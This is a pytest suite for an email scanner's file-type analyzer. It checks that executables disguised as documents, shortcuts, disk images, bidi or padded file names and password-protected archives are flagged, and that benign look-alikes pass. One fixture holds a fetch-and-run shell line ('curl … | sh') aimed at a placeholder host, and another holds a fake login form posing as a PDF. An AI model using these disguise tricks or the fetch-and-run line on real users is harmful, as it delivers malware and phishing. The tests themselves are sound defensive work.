"""True file type: every technique has a harmful sample and a benign look-alike, each
scanned as a whole message through mailguard.Scanner, as a user would see it."""
from __future__ import annotations

import io
import sys
import zipfile
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest

import filetype_samples as S
import mailguard
from mailguard import Action, Config
from mailguard.analyzers.base import AnalyzerContext
from mailguard.analyzers.filetype import FiletypeAnalyzer, archive_is_encrypted, name_parts
from mailguard.config import ConfigError, load_config
from mailguard.resources import rules_file

OCTET = "application/octet-stream"


@pytest.fixture(scope="module")
def scanner() -> mailguard.Scanner:
    return mailguard.Scanner()


def scan(scanner: mailguard.Scanner, *attachments: tuple[str, bytes, str], **kw: str) -> mailguard.Verdict:
    verdict = scanner.scan(S.message(attachments, **kw))
    assert not verdict.errors, verdict.errors
    return verdict


def filetype_rules(verdict: mailguard.Verdict) -> set[str]:
    return {f.rule for f in verdict.findings if f.analyzer == "filetype"}


THREATS = {
    "pe named pdf": (("invoice.pdf", S.pe_exe(), "application/pdf"), "FILETYPE_EXECUTABLE"),
    "pe named exe": (("setup.exe", S.pe_exe(), OCTET), "FILETYPE_EXECUTABLE"),
    "elf without extension": (("report", S.elf_exe(), OCTET), "FILETYPE_EXECUTABLE"),
    "mach-o named jpg": (("photo.jpg", S.macho_exe(), "image/jpeg"), "FILETYPE_EXECUTABLE"),
    "lnk shortcut": (("invoice.lnk", S.lnk_shortcut(), OCTET), "FILETYPE_SHORTCUT"),
    "lnk named docx": (("invoice.docx", S.lnk_shortcut(), OCTET), "FILETYPE_SHORTCUT"),
    "internet shortcut": (("portal.url", b"[InternetShortcut]\r\nURL=http://x.example/\r\n", OCTET), "FILETYPE_SHORTCUT"),
    "library-ms": (("files.library-ms", b'<?xml version="1.0"?><libraryDescription/>', OCTET), "FILETYPE_SHORTCUT"),
    "iso image": (("quotation.iso", S.iso_image(), OCTET), "FILETYPE_DISK_IMAGE"),
    "iso named pdf": (("quotation.pdf", S.iso_image(), "application/pdf"), "FILETYPE_DISK_IMAGE"),
    "img image": (("scan.img", S.iso_image(), OCTET), "FILETYPE_DISK_IMAGE"),
    "vhd image": (("backup.vhd", S.vhd_image(), OCTET), "FILETYPE_DISK_IMAGE"),
    "msi installer": (("update.msi", S.msi_installer(), OCTET), "FILETYPE_INSTALLER"),
    "msi named doc": (("letter.doc", S.msi_installer(), "application/msword"), "FILETYPE_INSTALLER"),
    **{f"script {name}": ((name, data, OCTET), "FILETYPE_SCRIPT") for name, data in S.SCRIPTS.items()},
    "shell script named pdf": (("invoice.pdf", b"#!/bin/sh\ncurl http://x.example | sh\n", "application/pdf"),
                               "FILETYPE_MISMATCH"),
}


@pytest.mark.parametrize("case", sorted(THREATS))
def test_dangerous_types_are_held_by_what_they_are(scanner: mailguard.Scanner, case: str) -> None:
    attachment, rule = THREATS[case]
    verdict = scan(scanner, attachment)
    assert rule in filetype_rules(verdict)
    if rule != "FILETYPE_MISMATCH":
        assert verdict.action >= Action.QUARANTINE
        finding = next(f for f in verdict.findings if f.rule == rule)
        assert finding.min_action == Action.QUARANTINE
        assert attachment[0] in finding.summary and "Do not open it" in finding.summary


BENIGN = {
    "pdf": ("statement.pdf", S.real_pdf(), "application/pdf"),
    "pdf sent as octet-stream": ("statement.pdf", S.real_pdf(), OCTET),
    "png": ("scan.png", S.real_png(), "image/png"),
    "png named jpg": ("scan.jpg", S.real_png(), "image/jpeg"),
    "docx": ("intake.docx", S.real_docx(),
             "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    "docx declared as zip": ("intake.docx", S.real_docx(), "application/zip"),
    "docx sent as octet-stream": ("intake.docx", S.real_docx(), OCTET),
    "csv": ("list.csv", S.CSV_TEXT, "text/csv"),
    "csv as text/plain": ("list.csv", S.CSV_TEXT, "text/plain"),
    "ics": ("invite.ics", S.ICS_TEXT, "text/calendar"),
    "zip of documents": ("records.zip", S.zip_of_documents(), "application/zip"),
    "nested zip of documents": ("records.zip", S.zip_with({"inner.zip": S.zip_of_documents()}), "application/zip"),
    "xls that is html (exported report)": ("report.xls", b"<html><body><table><tr><td>1</td></tr></table></body></html>",
                                           "application/vnd.ms-excel"),
    "dotted name": ("Statement 2026.01.05 final.pdf", S.real_pdf(), "application/pdf"),
    "name with a run of spaces": ("Scan      from printer.pdf", S.real_pdf(), "application/pdf"),
    "tar.gz": ("logs.tar.gz", b"\x1f\x8b\x08\x00" + b"\0" * 60, "application/gzip"),
}


@pytest.mark.parametrize("case", sorted(BENIGN))
def test_benign_look_alikes_are_accepted(scanner: mailguard.Scanner, case: str) -> None:
    verdict = scan(scanner, BENIGN[case])
    assert verdict.action == Action.ACCEPT, [f.summary for f in verdict.findings]
    assert not filetype_rules(verdict)


def test_summary_names_the_attachment_and_what_it_really_is(scanner: mailguard.Scanner) -> None:
    verdict = scan(scanner, ("invoice.pdf", S.pe_exe(), "application/pdf"))
    (finding,) = [f for f in verdict.findings if f.rule == "FILETYPE_EXECUTABLE"]
    assert finding.summary.startswith("'invoice.pdf' is really a Windows program (.exe), not a PDF document.")
    assert finding.details["by"] == "content"


def test_double_extension(scanner: mailguard.Scanner) -> None:
    verdict = scan(scanner, ("invoice.pdf.exe", S.pe_exe(), OCTET))
    assert {"FILETYPE_DOUBLE_EXTENSION", "FILETYPE_EXECUTABLE"} <= filetype_rules(verdict)
    assert verdict.action == Action.QUARANTINE
    # A script named with a document ending first, even when its content is plain text:
    verdict = scan(scanner, ("payment.pdf.js", S.SCRIPTS["payment.js"], OCTET))
    assert {"FILETYPE_DOUBLE_EXTENSION", "FILETYPE_SCRIPT"} <= filetype_rules(verdict)


def test_right_to_left_override_in_name(scanner: mailguard.Scanner) -> None:
    # Displays as "invoiceexe.pdf" but is "invoice\u202efdp.exe".
    verdict = scan(scanner, ("invoice\u202efdp.exe", S.pe_exe(), OCTET))
    assert "FILETYPE_NAME_BIDI" in filetype_rules(verdict)
    bidi = next(f for f in verdict.findings if f.rule == "FILETYPE_NAME_BIDI")
    assert "[U+202E]" in bidi.summary and ".exe" in bidi.summary
    # Never reverses the report itself:
    assert "\u202e" not in "".join(f.summary for f in verdict.findings if f.analyzer == "filetype")
    assert verdict.action >= Action.QUARANTINE
    # Alone, on a real document, the trick still quarantines by score.
    verdict = scan(scanner, ("report\u202eftr.pdf", S.real_pdf(), "application/pdf"))
    assert filetype_rules(verdict) == {"FILETYPE_NAME_BIDI"} and verdict.action >= Action.QUARANTINE


def test_invisible_characters_in_name(scanner: mailguard.Scanner) -> None:
    verdict = scan(scanner, ("lnvoice\u034f\u200b.pdf", S.real_pdf(), "application/pdf"))
    assert filetype_rules(verdict) == {"FILETYPE_NAME_INVISIBLE"}
    assert verdict.action == Action.TAG
    assert "lnvoice[U+034F][U+200B].pdf" in next(f.summary for f in verdict.findings if f.analyzer == "filetype")
    # Joiners and direction marks are ordinary in Persian, Hebrew or Hindi names.
    for name in ("\u0646\u0627\u0645\u0647\u200c\u0647\u0627.pdf", "\u05d3\u05d5\u05d7\u200f.pdf",
                 "\u0915\u094d\u200d\u0937.pdf"):
        assert not filetype_rules(scan(scanner, (name, S.real_pdf(), "application/pdf"))), name
    assert filetype_rules(scan(scanner, ("invoice\u200f.pdf", S.real_pdf(), "application/pdf"))) == {
        "FILETYPE_NAME_INVISIBLE"}


def test_name_padded_with_spaces(scanner: mailguard.Scanner) -> None:
    verdict = scan(scanner, ("invoice.pdf" + " " * 40 + ".exe", S.pe_exe(), OCTET))
    assert "FILETYPE_NAME_PADDING" in filetype_rules(verdict)
    assert verdict.action >= Action.QUARANTINE
    padding = next(f for f in verdict.findings if f.rule == "FILETYPE_NAME_PADDING")
    assert "[40 spaces]" in padding.summary and "(.exe)" in padding.summary
    verdict = scan(scanner, ("statement.pdf" + "_" * 30 + ".js", S.SCRIPTS["payment.js"], OCTET))
    assert {"FILETYPE_NAME_PADDING", "FILETYPE_SCRIPT"} <= filetype_rules(verdict)
    # Windows drops trailing dots and blanks, so this runs as .exe:
    verdict = scan(scanner, ("setup.exe. . ", S.pe_exe(), OCTET))
    assert "FILETYPE_EXECUTABLE" in filetype_rules(verdict)


def test_disguised_web_page_and_mismatch(scanner: mailguard.Scanner) -> None:
    page = b"<!DOCTYPE html><html><body><form action='https://x.example/login'><input name=p></form></body></html>"
    verdict = scan(scanner, ("invoice.pdf", page, "application/pdf"))
    assert filetype_rules(verdict) == {"FILETYPE_DISGUISED_WEB_PAGE"}
    assert verdict.action >= Action.TAG
    summary = next(f.summary for f in verdict.findings if f.analyzer == "filetype")
    assert summary == "'invoice.pdf' is really a web page (HTML), not a PDF document as its name says."
    verdict = scan(scanner, ("scan.png", S.real_pdf(), "image/png"))
    assert "FILETYPE_MISMATCH" in filetype_rules(verdict)


def test_declared_type_mismatch_is_weak_and_generic_types_never_count(scanner: mailguard.Scanner) -> None:
    verdict = scan(scanner, ("document", S.real_pdf(), "image/jpeg"))
    assert filetype_rules(verdict) == {"FILETYPE_DECLARED_MISMATCH"}
    assert verdict.action == Action.ACCEPT
    for generic in (OCTET, "application/x-download", "binary/octet-stream"):
        assert not filetype_rules(scan(scanner, ("document", S.real_pdf(), generic)))


def test_archive_members_get_the_same_checks_recursively(scanner: mailguard.Scanner) -> None:
    inner = S.zip_with({"statement.pdf": S.real_pdf(), "invoice.pdf.lnk": S.lnk_shortcut()})
    outer = S.zip_with({"docs/inner.zip": inner})
    verdict = scan(scanner, ("records.zip", outer, "application/zip"))
    assert {"FILETYPE_SHORTCUT", "FILETYPE_DOUBLE_EXTENSION"} <= filetype_rules(verdict)
    finding = next(f for f in verdict.findings if f.rule == "FILETYPE_SHORTCUT")
    assert finding.details["attachment"] == "records.zip > docs/inner.zip > invoice.pdf.lnk"
    assert verdict.action >= Action.QUARANTINE


def test_document_internals_are_not_judged_as_attachments(scanner: mailguard.Scanner) -> None:
    # A docx is a zip; its members (word/document.xml, media) are parts, not files.
    buffer = io.BytesIO(S.real_docx())
    with zipfile.ZipFile(buffer, "a") as zf:
        zf.writestr("word/media/image1.jpg", S.real_png())  # a PNG under a .jpg name, as Word may do
        zf.writestr("customXml/item1.js", b"var x = 1;")
    verdict = scan(scanner, ("intake.docx", buffer.getvalue(), OCTET))
    assert not filetype_rules(verdict)
    # ...but a program hidden inside one is still a program.
    with zipfile.ZipFile(buffer, "a") as zf:
        zf.writestr("word/embeddings/oleObject1.bin", S.pe_exe())
    verdict = scan(scanner, ("intake.docx", buffer.getvalue(), OCTET))
    assert "FILETYPE_EXECUTABLE" in filetype_rules(verdict)


def test_encrypted_zip(scanner: mailguard.Scanner) -> None:
    archive = S.encrypted_zip({"invoice.pdf": S.real_pdf(), "scan.pdf": S.real_pdf()}, password=b"8842")
    # The sample is a real encrypted zip: readable only with the password.
    with zipfile.ZipFile(io.BytesIO(archive)) as zf:
        assert zf.read("invoice.pdf", pwd=b"8842").startswith(b"%PDF")
        with pytest.raises(RuntimeError):
            zf.read("invoice.pdf")
    verdict = scan(scanner, ("invoice.zip", archive, "application/zip"))
    assert filetype_rules(verdict) == {"FILETYPE_ENCRYPTED_ARCHIVE"}
    assert verdict.action == Action.TAG
    summary = next(f.summary for f in verdict.findings if f.analyzer == "filetype")
    assert "'invoice.zip' is a password-protected archive" in summary


@pytest.mark.parametrize("body", [
    "Your invoice is attached.\nPassword: 8842\n",
    "Open the file with the password 8842 to view your statement.",
    "Archive pass - 8842",
])
def test_encrypted_archive_with_password_in_the_body_is_stronger(scanner: mailguard.Scanner, body: str) -> None:
    archive = S.encrypted_zip({"invoice.pdf": S.real_pdf()})
    verdict = scan(scanner, ("invoice.zip", archive, "application/zip"), body=body)
    assert filetype_rules(verdict) == {"FILETYPE_ENCRYPTED_ARCHIVE_PASSWORD"}
    assert verdict.action >= Action.QUARANTINE


def test_7z_and_rar(scanner: mailguard.Scanner) -> None:
    assert archive_is_encrypted(S.seven_zip(encrypted_header=True))
    assert not archive_is_encrypted(S.seven_zip())
    assert archive_is_encrypted(S.rar_archive(encrypted_headers=True))
    assert not archive_is_encrypted(S.rar_archive())
    verdict = scan(scanner, ("docs.7z", S.seven_zip(encrypted_header=True), "application/x-7z-compressed"),
                   body="The password is Acme2026")
    assert filetype_rules(verdict) == {"FILETYPE_ENCRYPTED_ARCHIVE_PASSWORD"}
    assert verdict.action >= Action.QUARANTINE
    verdict = scan(scanner, ("docs.rar", S.rar_archive(encrypted_headers=True), "application/x-rar"))
    assert filetype_rules(verdict) == {"FILETYPE_ENCRYPTED_ARCHIVE"}
    verdict = scan(scanner, ("docs.rar", S.rar_archive(), "application/x-rar"))
    assert filetype_rules(verdict) == {"FILETYPE_UNSCANNABLE_ARCHIVE"}
    assert verdict.action == Action.ACCEPT


def test_executable_can_be_configured_to_reject() -> None:
    config = Config.from_dict({"policy": {"actions": {"FILETYPE_EXECUTABLE": "reject"}}})
    verdict = mailguard.Scanner(config).scan(S.message([("invoice.pdf", S.pe_exe(), "application/pdf")]))
    assert verdict.action == Action.REJECT


def test_allowed_extensions_do_not_excuse_content() -> None:
    config = Config.from_dict({"filetype": {"allowed_extensions": ["cab", "js"]}})
    analyzer = FiletypeAnalyzer(config.section("filetype"), AnalyzerContext(config))
    scanner = mailguard.Scanner(config)
    assert not filetype_rules(scanner.scan(S.message([("lib.js", S.SCRIPTS["payment.js"], OCTET)])))
    verdict = scanner.scan(S.message([("lib.js", S.pe_exe(), OCTET)]))
    assert "FILETYPE_EXECUTABLE" in filetype_rules(verdict)
    assert analyzer.allowed == {"cab", "js"}


def test_name_parts() -> None:
    assert name_parts("invoice.pdf.exe") == ("invoice.pdf.exe", ["pdf", "exe"])
    assert name_parts("setup.exe. .") == ("setup.exe", ["exe"])
    assert name_parts("invoice\u202efdp.exe") == ("invoicefdp.exe", ["exe"])
    assert name_parts("folder/sub/report.PDF") == ("report.PDF", ["pdf"])
    assert name_parts("README") == ("README", [])


def test_operator_table_overrides_and_errors(tmp_path: Path) -> None:
    table = rules_file("filetypes.toml").read_text(encoding="utf-8")
    custom = tmp_path / "types.toml"
    custom.write_text(table.replace("[rules.FILETYPE_UNSCANNABLE_ARCHIVE]\nscore = 1.0",
                                    "[rules.FILETYPE_UNSCANNABLE_ARCHIVE]\nscore = 6.0"), encoding="utf-8")
    config_file = tmp_path / "mailguard.toml"
    config_file.write_text('[filetype]\ntypes_file = "types.toml"\n', encoding="utf-8")
    verdict = mailguard.Scanner(load_config(config_file)).scan(
        S.message([("docs.rar", S.rar_archive(), "application/x-rar")]))
    assert verdict.action == Action.TAG

    bad_cases = {
        "[kinds.x]\nlabel = \"x\"\ncategory = \"weird\"\n": "category",
        "[kinds.x]\ncategory = \"document\"\n": "'label' is required",
        "[kinds.x]\nlabel = \"x\"\ncategory = \"document\"\nextension = [\"x\"]\n": "unknown key 'extension'",
        "[rules.FILETYPE_NOPE]\nscore = 1\n": "unknown rule",
        "[rules.FILETYPE_MISMATCH]\nscore = \"high\"\n": "expected a number",
        "[kinds.a]\nlabel=\"a\"\ncategory=\"text\"\nextensions=[\"q\"]\n[kinds.b]\nlabel=\"b\"\ncategory=\"text\"\n"
        "extensions=[\"q\"]\n": "already listed",
        "[kinds.x\n": "TOML syntax error",
    }
    def build_filetype() -> FiletypeAnalyzer:
        config = load_config(config_file)
        return FiletypeAnalyzer(config.section("filetype"), AnalyzerContext(config))

    for text, expected in bad_cases.items():
        custom.write_text(text, encoding="utf-8")
        with pytest.raises(ConfigError) as err:
            build_filetype()
        assert str(custom) in str(err.value) and expected in str(err.value), str(err.value)
    config_file.write_text('[filetype]\ntypes_file = "missing.toml"\n', encoding="utf-8")
    with pytest.raises(ConfigError, match="missing.toml"):
        build_filetype()


def test_scans_in_parallel_threads_agree(scanner: mailguard.Scanner) -> None:
    """One analyzer shared by many threads (libmagic handles are per thread)."""
    messages = [S.message([(name, data, ctype)]) for name, data, ctype in
                [("a.pdf", S.pe_exe(), "application/pdf"), ("b.pdf", S.real_pdf(), "application/pdf"),
                 ("c.iso", S.iso_image(), OCTET), ("d.docx", S.real_docx(), OCTET)]] * 10
    with ThreadPoolExecutor(max_workers=4) as pool:
        actions = list(pool.map(lambda raw: scanner.scan(raw).action, messages))
    assert actions == [Action.QUARANTINE, Action.ACCEPT, Action.QUARANTINE, Action.ACCEPT] * 10


def test_password_protected_office_document(scanner: mailguard.Scanner) -> None:
    docx_type = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
    verdict = scan(scanner, ("statement.docx", S.encrypted_docx(), docx_type))
    assert filetype_rules(verdict) == {"FILETYPE_ENCRYPTED_DOCUMENT"}
    assert verdict.action == Action.ACCEPT  # alone it is common (payroll, banks)
    verdict = scan(scanner, ("statement.docx", S.encrypted_docx(), docx_type), body="Open it with password: 4411")
    assert filetype_rules(verdict) == {"FILETYPE_ENCRYPTED_ARCHIVE_PASSWORD"}
    assert verdict.action >= Action.QUARANTINE


def _pdf(user_password: str | None, owner_password: str = "owner-secret") -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(width=612, height=792)
    if user_password is not None:
        writer.encrypt(user_password=user_password, owner_password=owner_password, algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def test_password_to_open_pdf_is_an_encrypted_document(scanner: mailguard.Scanner) -> None:
    verdict = scan(scanner, ("boleto.pdf", _pdf("123"), "application/pdf"))
    assert filetype_rules(verdict) == {"FILETYPE_ENCRYPTED_DOCUMENT"}
    verdict = scan(scanner, ("boleto.pdf", _pdf("4411"), "application/pdf"), body="Open it with password: 4411")
    assert filetype_rules(verdict) == {"FILETYPE_ENCRYPTED_ARCHIVE_PASSWORD"}


def test_pdf_only_restricted_by_an_owner_password_is_not_locked(scanner: mailguard.Scanner) -> None:
    # Statements that open for anyone but forbid printing or copying are ordinary.
    assert not filetype_rules(scan(scanner, ("statement.pdf", _pdf(""), "application/pdf")))
    assert not filetype_rules(scan(scanner, ("report.pdf", _pdf(None), "application/pdf")))


@pytest.mark.parametrize("text, password", [
    ("Password: 8842", "8842"),
    ("Use password 1234 to open", "1234"),
    ("The password is infected", "infected"),
    ("password is 'Acme2026'.", "Acme2026"),
    ("Kennwort: 5555", "5555"),
    ("The password is your date of birth.", None),
    ("Password reset required", None),
    ("Your password expires today", None),
    ("promo code SAVE10 at checkout", None),
])
def test_password_in_text(text: str, password: str | None) -> None:
    from types import SimpleNamespace

    from mailguard.analyzers.filetype import find_password

    assert find_password(SimpleNamespace(subject="", body_text=text, text=text)) == password  # type: ignore[arg-type]


def test_several_encrypted_archives_make_one_finding(scanner: mailguard.Scanner) -> None:
    one = S.encrypted_zip({"a.pdf": S.real_pdf()})
    verdict = scan(scanner, ("a.zip", one, "application/zip"), ("b.zip", one, "application/zip"))
    (finding,) = [f for f in verdict.findings if f.analyzer == "filetype"]
    assert finding.rule == "FILETYPE_ENCRYPTED_ARCHIVE" and finding.details["archives"] == ["a.zip", "b.zip"]


def test_damaged_files_never_break_the_analyzers() -> None:
    """Truncated and corrupted versions of every sample: findings or none, never an
    exception (an analyzer error would hold the message for retry)."""
    import random

    from mailguard.analyzers.macros import MacrosAnalyzer
    from mailguard.message import parse

    config = Config.default()
    context = AnalyzerContext(config)
    analyzers = [FiletypeAnalyzer(config.section("filetype"), context),
                 MacrosAnalyzer(config.section("macros"), context)]
    rng = random.Random(5)
    samples = [S.pe_exe(), S.msi_installer(), S.word97_with_macro(), S.real_docx(macro_source=S.AUTOOPEN_MACRO),
               S.xls_with_xlm_macro_sheet(), S.encrypted_zip({"a.pdf": S.real_pdf()}), S.rar_archive(True),
               S.seven_zip(True), S.encrypted_docx(), S.iso_image()]
    for data in samples:
        variants = [data[:n] for n in (8, 100, 600, len(data) // 2)]
        for _ in range(3):
            broken = bytearray(data)
            for _ in range(20):
                broken[rng.randrange(len(broken))] = rng.randrange(256)
            variants.append(bytes(broken))
        for variant in variants:
            message = parse(S.message([("file.doc", variant, OCTET)]))
            for analyzer in analyzers:
                list(analyzer.analyze(message))


def test_names_inside_an_encrypted_zip_are_still_judged(scanner: mailguard.Scanner) -> None:
    archive = S.encrypted_zip({"invoice.pdf.js": S.SCRIPTS["payment.js"]})
    verdict = scan(scanner, ("invoice.zip", archive, "application/zip"))
    assert {"FILETYPE_ENCRYPTED_ARCHIVE", "FILETYPE_SCRIPT", "FILETYPE_DOUBLE_EXTENSION"} <= filetype_rules(verdict)
    assert verdict.action >= Action.QUARANTINE


def test_formats_libmagic_does_not_know_and_binary_called_text(scanner: mailguard.Scanner) -> None:
    onenote = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(range(128, 256)) * 8
    assert not filetype_rules(scan(scanner, ("notes.one", onenote, OCTET)))  # magic_bytes in the table
    verdict = scan(scanner, ("notes.pdf", onenote, "application/pdf"))
    assert "FILETYPE_MISMATCH" in filetype_rules(verdict)
    # High-bit junk that libmagic can only call "Non-ISO extended-ASCII text" is no evidence.
    assert not filetype_rules(scan(scanner, ("scan.pdf", bytes(range(128, 256)) * 4, "application/pdf")))


def test_a_program_archive_is_one_finding_not_one_per_member(scanner: mailguard.Scanner) -> None:
    jar = S.zip_with({"META-INF/MANIFEST.MF": b"Manifest-Version: 1.0\r\nMain-Class: Invoice\r\n\r\n",
                      "Invoice.class": b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + b"\0" * 32})
    verdict = scan(scanner, ("invoice.jar", jar, "application/java-archive"))
    assert [f.rule for f in verdict.findings if f.analyzer == "filetype"] == ["FILETYPE_EXECUTABLE"]
    assert verdict.action >= Action.QUARANTINE


def test_attachments_of_a_forwarded_message_are_checked(scanner: mailguard.Scanner) -> None:
    from email import message_from_bytes, policy
    from email.message import EmailMessage

    inner = message_from_bytes(S.message([("invoice.pdf", S.pe_exe(), "application/pdf")]), policy=policy.default)
    outer = EmailMessage()
    outer["From"], outer["To"], outer["Subject"] = "a@sender.example", "frontdesk@practice.example", "Fwd: invoice"
    outer.set_content("See below.")
    outer.add_attachment(inner)  # message/rfc822
    raw = outer.as_bytes().replace(b"\n", b"\r\n")  # as it arrives over SMTP
    verdict = scanner.scan(raw)
    finding = next(f for f in verdict.findings if f.rule == "FILETYPE_EXECUTABLE")
    assert finding.details["attachment"].endswith("invoice.pdf")
    assert verdict.action >= Action.QUARANTINE


def test_libmagic_is_checked_at_a_service_start_not_at_import(monkeypatch: pytest.MonkeyPatch) -> None:
    """libmagic is opened at the first attachment; the services' start-up checks say
    plainly when it is missing (as a broken python-magic would be: the import fails)."""
    from mailguard.analyzers.filetype import libmagic_problem
    from mailguard.ops.preflight import check_libraries

    assert libmagic_problem() == "" and check_libraries() == []
    monkeypatch.setitem(sys.modules, "magic", None)  # import magic now raises ImportError
    problem = libmagic_problem()
    assert "libmagic is missing or broken" in problem and "apt-get install libmagic1" in problem
    assert check_libraries() == [problem]
